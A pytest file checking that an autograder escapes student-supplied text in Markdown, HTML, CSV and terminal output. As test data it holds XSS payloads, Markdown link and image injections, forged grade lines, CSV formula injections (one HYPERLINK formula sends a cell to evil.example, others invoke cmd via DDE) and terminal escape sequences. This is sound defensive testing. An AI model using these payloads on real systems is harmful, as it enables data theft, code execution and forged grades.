"""Student text is data, never markup (grader/results/escape.py): each medium a student's bytes reach gets its
break-out, through the real writer where one can run without grading (Gradescope's run on a submission of misnamed
files, a batch with a stub grader, the similarity report, the CLI with a stub grader), and the property that the
escapes leave no control character (terminal) and round-trip through a parser as text (HTML, Markdown)."""

from __future__ import annotations

import csv
import dataclasses
import html as std_html
import json
import os
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader import cli
from grader.config import Homework, discover_tasks, load_config
from grader.course import gradescope, leaderboard
from grader.course.batch import run_batch
from grader.course.similarity import similarity_report
from grader.gates.intake import student_id
from grader.pipeline import grading
from grader.results import TaskResult, escape
from grader.results import TestResult as Result  # pytest collects no Test* name

markdown_it = pytest.importorskip("markdown_it")

TASKS, _ = discover_tasks()
T10 = "10_quantize_global_int8"
T12 = "12_matmul_int8_fused_dequant"

FORGED_LINE = f"- `{T12}`: 4 of 4 (checked by staff, regrade done)"
IMAGE = "![grade](http://evil.example/a.png)"
LINK = "[regrade_here](http://evil.example/login)"
RAW_HTML = "<img src=x onerror=alert(1)>"
FENCE_BREAK = "```\n# Regrade approved: 4 / 4\n```"
TERMINAL_FORGERY = ("boom\x1b]0;PWNED\x07\x1b[2K\r\x1b[1A  PASS  (all cases)                  2/2"
                    "\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\ \u202eevil\u202c \x9b31mred")
HYPERLINK = '=HYPERLINK("http:\\\\evil.example?"&B2,"open")'
FORMULAS = [HYPERLINK, "+cmd|' -C calc'!A0", "@SUM(1+1)*cmd|' -C calc'!A0", "-2+3", "\t=1+1"]


def render_md(text: str) -> str:
    """Markdown as a renderer that lets raw HTML through (the worst case) shows it, GFM tables on."""
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


class Tags(HTMLParser):
    """The start tags of an HTML text and its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def assert_no_markup_from_students(rendered: str) -> None:
    """No image, link, script, heading or raw tag a student could have put in: what Markdown/HTML would make of
    IMAGE, LINK, RAW_HTML, FENCE_BREAK."""
    tags = {t for t, _ in Tags(rendered).tags}
    assert not tags & {"img", "a", "script", "iframe"}, (tags, rendered)
    assert not re.search(r"<h1>[^<]*Regrade", rendered), rendered  # FENCE_BREAK's line, out of its code block
    assert "onerror" not in str(Tags(rendered).tags)


# ----------------------------------------------------------------------------------------------- Markdown


def test_gradescope_overall_output_lists_hostile_file_names_as_text(tmp_path):
    """File names are the student's: one shaped as the grader's own list line, one holding HTML and an image.
    Gradescope's run (no file named like a task: nothing is graded) lists them as text, one line each."""
    sub = tmp_path / "submission"
    sub.mkdir()
    hostile = [f"x\n{FORGED_LINE}\n{RAW_HTML}.py", f"{IMAGE.replace('/', '_')}.py", "[click](javascript:alert(1)).py"]
    for name in hostile:
        (sub / name).write_text("# nothing\n")
    results = tmp_path / "results" / "results.json"
    gradescope.run("hw4_int8", sub, results)
    data = json.loads(results.read_text())
    output = data["output"]
    assert not [ln for ln in output.splitlines() if ln.startswith(f"- `{T12}`: 4 of 4")], output
    rendered = render_md(output)
    assert_no_markup_from_students(rendered)
    # one list item per task and one per note: the newlines in the first name start no item of their own
    hw_tasks = load_config().homeworks["hw4_int8"].tasks
    assert rendered.count("<li>") == len(hw_tasks) + len(hostile), rendered
    assert "checked by staff, regrade done" in rendered  # shown, as the file name it is part of
    for test in data["tests"]:  # the missing-file entries list every file received
        assert_no_markup_from_students(render_md(test["output"]))
        assert not [ln for ln in test["output"].splitlines() if ln.startswith("- ")]


def test_gradescope_message_cannot_forge_the_table_or_close_its_code_block():
    """An exception's text shaped as the judge's got/expected message, with an image and a link for values, and a
    fence that would close the message's code block: the table shows them as text, the block stays one block."""
    message = (f"raised ValueError: z: 1 of 4 element(s) differ; first: z[0, 0] got {IMAGE} expected {LINK}; "
               f"z[0, 1] got {RAW_HTML.replace(' ', '')} expected 1\n{FENCE_BREAK}\n{RAW_HTML}")
    (entry,) = gradescope.entries_of("t", [{"name": "c", "points": 0.0, "max_points": 1.0, "outcome": "failed",
                                            "message": message}])
    rendered = render_md(entry["output"])
    assert_no_markup_from_students(rendered)
    assert rendered.count("<pre>") == 1 and "Regrade approved" in rendered.split("</pre>")[0]
    cells = [d for d in Tags(rendered.split("</pre>")[1]).text if d.strip()]
    assert IMAGE in cells and LINK in cells, cells  # the values, as written


def test_batch_results_json_and_gradebook_hold_a_hostile_student_as_text(tmp_path, task10):
    """Through `batch` (grading stubbed): a student folder named as a spreadsheet formula, a message with HTML, a
    forged list line and terminal escapes. results.json's Markdown renders no markup; the gradebook's cell is
    text, and canvas.csv's too; the console lines carry no escape sequence."""
    root = tmp_path / "subs"
    students = [HYPERLINK, *FORMULAS[1:], "ann"]
    for s in students:
        (root / s).mkdir(parents=True)
        (root / s / f"{T10}.py").write_text("# any\n")
    hw = Homework(id="hw", title="HW", tasks={T10: 2.0})

    def grade(jobs, cfg, device, workers, on_result=None):
        out = []
        for job in jobs:
            tests = [Result("n1_fp32", "failed", 0.0, 1.0, f"raised {TERMINAL_FORGERY}\n{FORGED_LINE}\n"
                                f"{RAW_HTML} {IMAGE}\n{FENCE_BREAK}"),
                     Result("n127_fp16", "passed", 0.5, 0.5, "ok")]
            out.append(TaskResult(task=job.task.id, student=job.student, submission=str(job.submission), score=0.5,
                                  max_score=1.5, tests=tests, checks={}, environment={}, submission_sha256="",
                                  graded_at="2025-11-01T00:00:00+00:00"))
            if on_result:
                on_result(out[-1])
        return out

    said: list[str] = []
    for verbose in (False, True):
        run_batch(root, dataclasses.replace(hw), {T10: task10}, load_config(), "cpu", tmp_path / "out", grade=grade,
                  show=said.append, verbose=verbose, force=True)
    out = tmp_path / "out"
    # gradebook.csv: every student cell is text to a spreadsheet, the grader's numbers stay numbers
    with (out / "gradebook.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    # (a name that is not printable is graded under its escaped id, grader/gates/intake.py student_id: "\\t=1+1")
    assert sorted(r["student"] for r in rows) == sorted(escape.csv_cell(student_id(s)) for s in students)
    assert not [r["student"] for r in rows if r["student"][:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(r[T10] == "0.5" and r["total"] == "0.5" for r in rows)
    # canvas.csv (Canvas's gradebook import): the same cells in Student and SIS Login ID, and the same totals
    with (out / "canvas.csv").open(newline="") as f:
        canvas_rows = list(csv.reader(f))[2:]
    assert [r[3] for r in canvas_rows] == [r["student"] for r in rows] == [r[0] for r in canvas_rows]
    assert all(r[5] == "0.5" for r in canvas_rows)
    # results.json: the messages' code blocks hold the student's text; nothing renders as markup
    for s in students:
        for name in ("results.json", "gradescope.staff.json"):
            data = json.loads((out / student_id(s) / name).read_text())
            for test in data["tests"]:
                assert_no_markup_from_students(render_md(test["output"]))
    # the console: no control character, and no line begins like the grader's own PASS line
    console = "\n".join(said)
    assert not [c for c in console if c != "\n" and unicodedata.category(c) in ("Cc", "Cf")], repr(console)
    assert not [ln for ln in console.splitlines() if ln.lstrip().startswith("PASS  (all cases)")]


# --------------------------------------------------------------------------------------------------- HTML


def test_similarity_html_and_csv_show_hostile_names_and_code_as_text(tmp_path):
    """The similarity report of a class whose folder names are HTML, a formula and bytes that are not UTF-8, and
    whose (identical, so flagged and shown side by side) code holds `</table><script>`."""
    root = tmp_path / "subs"
    code = (TASKS[T10].folder / "solution.py").read_text() + "\n# </table><script>alert(1)</script>\n"
    names = [RAW_HTML, HYPERLINK, os.fsdecode(b"caf\xe9")]
    for name in names:
        (root / name).mkdir(parents=True)
        (root / name / f"{T10}.py").write_text(code)
    hw = Homework(id="hw", title="HW", tasks={T10: 2.0})
    csv_path, html_path = similarity_report(root, hw, TASKS, tmp_path / "out")
    page = html_path.read_text()
    parsed = Tags(page)
    assert {t for t, _ in parsed.tags} <= {"meta", "title", "style", "h1", "h2", "h3", "p", "table", "tr", "th",
                                           "td", "a", "div", "span", "i"}, parsed.tags
    assert all(set(attrs) <= {"href", "id", "class", "charset"} for _, attrs in parsed.tags)
    text = "".join(parsed.text)
    assert RAW_HTML in text and "</table><script>alert(1)</script>" in text  # shown, as text
    with csv_path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3 and all(r["score"] == "1.0000" for r in rows)
    cells = {r["student_a"] for r in rows} | {r["student_b"] for r in rows}
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells and "caf\\udce9" in cells


def test_gradescope_picture_output_is_escaped_html():
    message = f"z: 1 of 4 element(s) differ; first: z[0, 1] got {RAW_HTML.replace(' ', '')} expected 2\n" \
              "</table><script>alert(1)</script>"
    (entry,) = gradescope.entries_of("p", [{"name": "c", "points": 0.0, "max_points": 1.0, "outcome": "failed",
                                            "message": message}], pictures={"c": b"\x89PNG"})
    assert entry["output_format"] == "html"
    assert {t for t, _ in Tags(entry["output"]).tags} == {"pre", "table", "tr", "th", "td", "code", "img"}
    (img,) = [a for t, a in Tags(entry["output"]).tags if t == "img"]
    assert set(img) == {"alt", "src"} and img["src"].startswith("data:image/png;base64,")


# ---------------------------------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_becomes_text(cell):
    assert escape.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.5", "0.5", "+1", "-1e-06", "ann", "a=b", 2.0, -0.5, 3])
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert escape.csv_cell(cell) == cell


def test_leaderboard_with_student_names_writes_text_cells_and_markdown(tmp_path):
    """A course that shows students' names on the leaderboard: leaderboard.csv, leaderboard_names.csv and
    leaderboard.md hold a hostile folder name as text."""
    hw = Homework(id="hw", title="HW", tasks={T12: 4.0}, leaderboard_names="student")
    entries = [leaderboard.Entry(HYPERLINK, T12, "speed_vs_compile", 2.0, 1.0, 0.1),
               leaderboard.Entry(f"{IMAGE.replace('/', '_')}\n{FORGED_LINE}", T12, "speed_vs_compile", 1.0, 0.5, 0.2)]
    leaderboard.write(tmp_path, hw, entries)
    for name in ("leaderboard.csv", "leaderboard_names.csv"):
        with (tmp_path / name).open(newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    md = (tmp_path / "leaderboard.md").read_text()
    assert not [ln for ln in md.splitlines() if ln.startswith(f"- `{T12}`")]
    assert_no_markup_from_students(render_md(md))


# ----------------------------------------------------------------------------------------------- terminal


def _fake_grade_jobs(jobs, cfg, device, workers, on_result=None, **_):
    out = []
    for job in jobs:
        tests = [Result("n1_fp32", "failed", 0.0, 2.0, f"raised RuntimeError: {TERMINAL_FORGERY}\nsecond line")]
        out.append(TaskResult(task=job.task.id, student=job.student, submission=str(job.submission), score=0.0,
                              max_score=2.0, tests=tests, checks={}, environment={"device": "cpu"},
                              submission_sha256="", graded_at="2025-11-01T00:00:00+00:00",
                              staff={"worker_exit": "exit 0"}))
        if on_result:
            on_result(out[-1])
    return out


def _assert_clean_terminal(text: str) -> None:
    bad = [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")]
    assert not bad, repr(text)
    assert not [ln for ln in text.splitlines() if ln.lstrip().startswith("PASS")], text


@pytest.mark.parametrize("command", ["grade", "grade-dir"])
def test_grade_and_grade_dir_print_no_escape_sequence(command, tmp_path, monkeypatch, capsys):
    """`grade` and `grade-dir` (grading stubbed) of a folder whose name and message hold terminal escapes: a window
    title, an erased line, a cursor moved up, an OSC 8 hidden link, a C1 CSI, a bidi override."""
    folder = tmp_path / "ann\x1b[2K\x1b]0;t\x07\u202e"
    folder.mkdir()
    (folder / f"{T10}.py").write_text("# any\n")
    (folder / "\x1b[1Aforged\u202e.py").write_text("# not a task\n")
    monkeypatch.setattr(grading, "grade_jobs", _fake_grade_jobs)
    args = (["grade", "--task", T10, str(folder / f"{T10}.py"), "--json", str(tmp_path / "out" / "r.json")]
            if command == "grade" else ["grade-dir", str(folder), "--out", str(tmp_path / "out")])
    cli.main([*args, "--device", "cpu", "--staff"])
    printed = capsys.readouterr()
    _assert_clean_terminal(printed.out + printed.err)
    assert "\\x1b]0;PWNED\\x07" in printed.out and "\\u202e" in printed.out  # shown, visibly
    lines = printed.out.splitlines()
    second = next(ln for ln in lines if ln.endswith("second line"))
    assert second.startswith(" " * 50)  # a message's own newline continues it, under its column


# --------------------------------------------------------------------------------------------- properties

UNSEEN = ("Cc", "Cf", "Zl", "Zp", "Cs")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec=None)))
def test_escaped_terminal_text_has_no_control_character(text):
    for newlines in (False, True):
        shown = escape.terminal(text, newlines=newlines)
        assert not [c for c in shown if unicodedata.category(c) in UNSEEN and not (newlines and c == "\n")]
        assert shown.count("\n") == (text.count("\n") if newlines else 0)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_escaped_html_parses_back_as_the_same_text(text):
    parsed = Tags(f"<p>{escape.html(text)}</p><p title=\"{escape.html(text)}\">")
    assert parsed.tags == [("p", {}), ("p", {"title": text})]
    assert "".join(parsed.text) == text


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_markdown_inline_text_renders_as_the_same_text(text):
    rendered = render_md(f"a {escape.md_inline(text)} b")
    parsed = Tags(rendered)
    assert [t for t, _ in parsed.tags] == ["p"], rendered
    assert std_html.unescape("".join(parsed.text)).strip() == f"a {escape.visible_controls(text)} b"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_markdown_code_block_holds_any_text(text):
    rendered = render_md(f"{escape.md_code_block(text)}\n\nafter")
    parsed = Tags(rendered)
    assert [t for t, _ in parsed.tags] == ["pre", "code", "p"], rendered
    assert "".join(parsed.text).startswith(escape.visible_controls(text, "\n"))

